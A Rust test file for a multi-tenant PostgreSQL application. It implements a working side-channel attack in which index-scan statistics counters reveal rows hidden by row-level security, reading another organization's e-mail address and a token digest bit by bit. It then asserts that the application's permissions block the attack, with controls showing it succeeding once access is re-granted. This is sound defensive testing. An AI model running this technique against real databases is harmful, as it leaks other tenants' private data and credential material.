//! The attack: a comparison that an index answers before the policy is asked, and a count of the rows that were found
//! and refused. It reads the values of others bit by bit.

use std::fmt::Write;

use sea_orm::sqlx;
use tests::Fixture;

use crate::inside::{Inside, sqlstate};

/// How somebody in a context counts the entries of an index that its own statements have met.
const COUNTS: [&str; 4] = [
    "SELECT pg_stat_get_xact_tuples_returned('{index}'::regclass)",
    "SELECT pg_stat_get_xact_tuples_fetched('{index}'::regclass)",
    "SELECT idx_tup_fetch FROM pg_stat_xact_user_tables WHERE relid = '{table}'::regclass",
    "SELECT idx_tup_fetch FROM pg_stat_xact_all_tables WHERE relid = '{table}'::regclass",
];

/// An index whose first column is not that of the scope.
struct Target<'a> {
    index: &'a str,
    table: &'a str,
    count: &'a str,
}

impl Target<'_> {
    /// Returns how many entries the index has under a condition, whoever's.
    async fn entries(&self, inside: &mut Inside, condition: &str) -> sqlx::Result<i64> {
        let count = self.count.replace("{index}", self.index).replace("{table}", self.table);
        let before: i64 = inside.ask(&count).await?;
        inside.say(&format!("SELECT 1 FROM {} WHERE {condition}", self.table)).await?;
        Ok(inside.ask::<i64>(&count).await? - before)
    }
}

/// Reads the letters that an address of another organization begins with, by a count of the rows that a condition finds
/// and the policy refuses.
pub(crate) async fn read_address(
    inside: &mut Inside,
    count: impl AsyncFn(&mut Inside, &str) -> sqlx::Result<i64>,
    letters: usize,
) -> sqlx::Result<String> {
    let mut address = String::new();
    for _ in 0..letters {
        for letter in 'a'..='z' {
            let condition = format!("email >= '{address}{letter}' AND email <= '{address}{letter}zzzzzzzz'");
            if count(inside, &condition).await? > 0 {
                address.push(letter);
                break;
            }
        }
    }
    Ok(address)
}

/// Reads the bytes that a token's digest begins with: one bit for each question.
async fn read_digest(inside: &mut Inside, count: &str, bytes: usize) -> sqlx::Result<String> {
    let target = Target { index: "personal_access_token_by_digest", table: "personal_access_token", count };
    let mut digest = String::new();
    for _ in 0..bytes {
        let (mut low, mut high) = (0_u16, 256);
        while high - low > 1 {
            let middle = low.midpoint(high);
            let condition =
                format!(r"token_digest >= '\x{digest}{low:02x}' AND token_digest < '\x{digest}{middle:02x}'");
            if target.entries(inside, &condition).await? > 0 { high = middle } else { low = middle }
        }
        write!(digest, "{low:02x}").unwrap();
    }
    Ok(digest)
}

/// The e-mail address and the token that are to be read, of nobody in the attacker's organization; and many others, before
/// and after: the planner reads the first and the last entry of an index, and counts them.
const SECRETS: &str = r#"
    INSERT INTO "user" (id, name, email)
      SELECT gen_random_uuid(), 'x', (ARRAY['0', 'zoe'])[1 + g % 2] || g || '@elsewhere.example'
      FROM generate_series(1, 3000) g;
    INSERT INTO "user" (id, name, email) VALUES ('01990000-0000-7000-8000-000000000001', 'victim', 'kqxjwv@victim.example');
    INSERT INTO personal_access_token (user_id, id, name, token_digest)
      SELECT id, id, 'x', decode(CASE WHEN email < 'b' THEN '00' ELSE 'ff' END || repeat('00', 31), 'hex')
      FROM "user" WHERE name = 'x';
    INSERT INTO personal_access_token (user_id, id, name, token_digest) VALUES
      ('01990000-0000-7000-8000-000000000001', '01990000-0000-7000-8000-000000000001', 'x',
       decode('c0ffee' || repeat('5a', 29), 'hex'));
    ANALYZE "user", personal_access_token"#;

/// Gives everybody back what counts.
const GIVE_BACK: &str = "DO $$ DECLARE f text; BEGIN
    FOR f IN SELECT oid::regprocedure FROM pg_proc WHERE proname LIKE 'pg_stat_get_%' LOOP
      EXECUTE 'GRANT EXECUTE ON FUNCTION ' || f || ' TO PUBLIC';
    END LOOP;
  END $$";

/// Two organizations, and the secrets of somebody in neither.
pub(crate) async fn world() -> Fixture {
    let f = Fixture::new().await;
    f.database.execute(SECRETS).await;
    f
}

/// The control is the same attack, once everybody may execute again what PostgreSQL lets everybody execute.
#[tokio::test]
async fn an_address_of_another_organization_is_not_read_bit_by_bit() {
    let f = world().await;
    let by = |count| {
        let target = Target { index: "user_email_key", table: "\"user\"", count };
        async move |inside: &mut Inside, condition: &str| target.entries(inside, condition).await
    };
    for count in COUNTS {
        let mut inside = Inside::tenant(&f, &f.globex).await;
        let refused = read_address(&mut inside, by(count), 1).await.unwrap_err();
        assert_eq!(sqlstate(&refused), "42501", "{count}");
    }
    f.database.execute(GIVE_BACK).await;
    for count in COUNTS {
        let mut inside = Inside::tenant(&f, &f.globex).await;
        assert_eq!(read_address(&mut inside, by(count), 6).await.unwrap(), "kqxjwv", "{count}");
    }
}

/// The index holds a digest of the digest. The control is the same attack, once what counts is open and the index holds
/// what it looks up.
#[tokio::test]
async fn the_digest_of_another_persons_token_is_not_read_bit_by_bit() {
    let f = world().await;
    for count in COUNTS {
        let mut inside = Inside::user(&f, &f.globex).await;
        let refused = read_digest(&mut inside, count, 1).await.unwrap_err();
        assert_eq!(sqlstate(&refused), "42501", "{count}");
    }
    f.database.execute(GIVE_BACK).await;
    for count in COUNTS {
        let mut inside = Inside::user(&f, &f.globex).await;
        assert_ne!(read_digest(&mut inside, count, 3).await.unwrap(), "c0ffee", "{count}");
    }
    f.database
        .execute(
            "DROP INDEX personal_access_token_by_digest;
             CREATE INDEX personal_access_token_by_digest ON personal_access_token (token_digest);
             ALTER TABLE personal_access_token ALTER token_digest SET STATISTICS -1; ANALYZE personal_access_token",
        )
        .await;
    for count in COUNTS {
        let mut inside = Inside::user(&f, &f.globex).await;
        assert_eq!(read_digest(&mut inside, count, 3).await.unwrap(), "c0ffee", "{count}");
    }
}
